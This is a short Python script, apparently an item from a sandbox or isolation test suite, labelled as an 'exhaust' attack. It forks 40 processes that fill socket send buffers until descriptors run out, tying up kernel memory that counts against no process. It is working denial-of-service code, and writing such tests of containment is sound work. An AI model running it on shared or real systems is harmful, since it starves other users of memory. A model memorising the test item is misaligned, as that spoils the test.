# attack: takes memory that counts for no process, in the queues of sockets of many processes
# family: exhaust
# score: 0
# bounded: namespaces user
import os
import signal
import socket

signal.alarm(60)
for _ in range(40):
    if os.fork() == 0:
        signal.alarm(60)
        kept = []
        try:
            while True:
                one, other = socket.socketpair()
                kept.append((one, other))
                one.setblocking(False)
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                try:
                    while True:
                        one.send(bytes(32768))
                except BlockingIOError:
                    pass
        except OSError:  # no descriptors are left
            signal.pause()
signal.pause()
